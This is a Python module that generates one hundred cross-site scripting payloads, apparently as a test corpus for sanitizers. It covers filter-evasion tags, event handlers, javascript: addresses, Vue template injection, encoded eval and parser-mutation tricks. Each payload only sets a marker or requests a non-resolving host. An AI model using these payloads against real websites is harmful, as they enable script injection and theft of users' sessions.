r"""A hundred texts that want to be code.

Each is a template of a mark, a number: if it runs, it sets ``top.__hit`` to its mark or asks an
address that leads nowhere for it. In a template ``{js}`` is that script and ``{url}`` that
address; ``{b64}``, ``{ent}``, ``{hex}``, ``{uni}``, ``{pct}`` and ``{char}`` are the script in
base64, HTML entities, ``\x``, ``\u`` and per cent escapes and as numbers of letters.
"""

import base64
from urllib.parse import quote

NOWHERE = "http://hit.invalid"
VUE = "[].at.constructor('{js}')()"

FAMILIES = {
    "script": [
        "<script>{js}</script>",
        "<ScRiPt>{js}</sCrIpT>",
        "<script src={url}></script>",
        "<script type=module>{js}</script>",
        "<script/x=1>{js}</script>",
        "<scr<script>ipt>{js}</scr</script>ipt>",
        "王思远<script>{js}//</script>",
        "<script\n>{js}</script\n>",
        "<svg><script>{js}</script></svg>",
        "<script>eval(atob('{b64}'))</script>",
    ],
    "handler": [
        "<img src=x onerror={js}>",
        '<img src="x" onerror="{js}">',
        "<img src='x' onerror='{js}'>",
        '<img/src="x"/onerror={js}>',
        "<IMG SRC=x OnErRoR={js}>",
        "<img src=x\nonerror={js}>",
        "<img\tsrc=x\tonerror={js}\t>",
        "<img src=x onerror={js}//",
        "<body onload={js}>",
        "<details open ontoggle={js}>李</details>",
        "<video src=x onerror={js}></video>",
        "<video><source src=x onerror={js}></video>",
        "<audio src=x onerror={js}></audio>",
        "<iframe onload={js}></iframe>",
        "<style onload={js}></style>",
        "<link rel=stylesheet href=x onerror={js}>",
        "<input autofocus onfocus={js}>",
        "<button onclick={js}>保存</button>",
        "<div onmouseover={js}>陈静</div>",
        "<p style=animation:x onanimationstart={js}>一</p><style>@keyframes x{}</style>",
    ],
    "svg": [
        "<svg onload={js}>",
        "<svg/onload={js}>",
        "<svg><image href=x onerror={js}></svg>",
        "<svg><a href=javascript:{js}><text y=9>王</text></a></svg>",
        "<svg><animate onbegin={js} attributeName=x dur=1s></svg>",
        "<svg><set onbegin={js} attributeName=x to=1></svg>",
        "<svg><style onload={js}></style></svg>",
        "<svg><foreignObject><img src=x onerror={js}></foreignObject></svg>",
    ],
    "address": [
        "javascript:{js}",
        "JaVaScRiPt:{js}",
        " javascript:{js}",
        "java\tscript:{js}",
        "java\nscript:{js}",
        "javascript://%0a{js}",
        "javascript:eval(atob('{b64}'))",
        "javascript:%65val('{js}')",
        "<a href=javascript:{js}>电话</a>",
        "<a href=&#106;avascript&colon;{js}>电话</a>",
        "<iframe src=javascript:{js}></iframe>",
        "<form onsubmit={js}><button>去</button></form>",
        "<input type=image src=x onerror={js}>",
        "<img src={url}>",
        "<img srcset={url}>",
        "<link rel=stylesheet href={url}>",
        "<iframe src={url} onload={js}></iframe>",
        "<object data={url} onerror={js}></object>",
        "<input type=image src={url}>",
        "<video poster={url}></video>",
    ],
    "template": [
        "{{constructor.constructor('{js}')()}}",
        "{{_toDisplayString.constructor('{js}')()}}",
        "{{ $emit.constructor('{js}')() }}",
        "{{ " + VUE + " }}",
        '<p :title="' + VUE + '">一</p>',
        '<p v-bind:title="' + VUE + '">一</p>',
        '<p v-if="' + VUE + '">一</p>',
        '<p v-text="' + VUE + '"></p>',
        "<p v-html=\"'<img src=x onerror={js}>'\"></p>",
        '<p @vue:mounted="' + VUE + '">一</p>',
        '<component is="img" src="x" onerror="{js}"></component>',
        '<p v-for="n in [' + VUE + ']">一</p>',
        "{{ top.__hit = {mark} }}",
        "{% if 1 %}<img src=x onerror={js}>{% endif %}",
    ],
    "attribute": [
        '"><script>{js}</script>',
        "'><script>{js}</script>",
        '" onfocus="{js}" autofocus="',
        "' onfocus='{js}' autofocus='",
        "x onfocus={js} autofocus",
        '"><svg onload={js}>',
        '" onclick="{js}" lang="',
        "`}<img src=x onerror={js}>",
    ],
    "string": [
        '";{js};//',
        "';{js};//",
        "${{js}}",
        "</script><script>{js}</script>",
        '\\";{js};//',
        "--><img src=x onerror={js}><!--",
    ],
    "encoding": [
        "<img src=x onerror={ent}>",
        "<img src=x onerror=eval('{hex}')>",
        "<img src=x onerror=eval('{uni}')>",
        "<img src=x onerror=eval(unescape('{pct}'))>",
        "<img src=x onerror=eval(String.fromCharCode({char}))>",
        "&lt;img src=x onerror={js}&gt;",
        "\u202e<img src=x onerror={js}>\u202c",
        "李\u0000<img src=x onerror={js}>",
    ],
    "mutation": [
        "</textarea><img src=x onerror={js}>",
        "</title><img src=x onerror={js}>",
        '<noscript><p title="</noscript><img src=x onerror={js}>">',
        '<svg></p><style><a id="</style><img src=x onerror={js}>">',
    ],
    "style": [
        "<style>@import '{url}';</style>",
        '<p style="background:url({url})">一</p>',
    ],
}  # fmt: skip

TEMPLATES = [text for family in FAMILIES.values() for text in family]


def text(number: int, mark: int) -> str:
    """The payload of this number, with the mark it sets if it runs."""
    js = f"top.__hit={mark}"
    parts = {
        "{js}": js,
        "{url}": f"{NOWHERE}/{mark}",
        "{mark}": str(mark),
        "{b64}": base64.b64encode(js.encode()).decode(),
        "{ent}": "".join(f"&#{ord(c)};" for c in js),
        "{hex}": "".join(f"\\x{ord(c):02x}" for c in js),
        "{uni}": "".join(f"\\u{ord(c):04x}" for c in js),
        "{pct}": quote(js, safe="").replace("_", "%5F"),
        "{char}": ",".join(str(ord(c)) for c in js),
    }
    made = TEMPLATES[number]
    for name, part in parts.items():
        made = made.replace(name, part)
    return made


def mark(column: int, number: int) -> int:
    """One number for each payload in each column, so that what runs tells where it stood."""
    return 100_000 + 1_000 * column + number
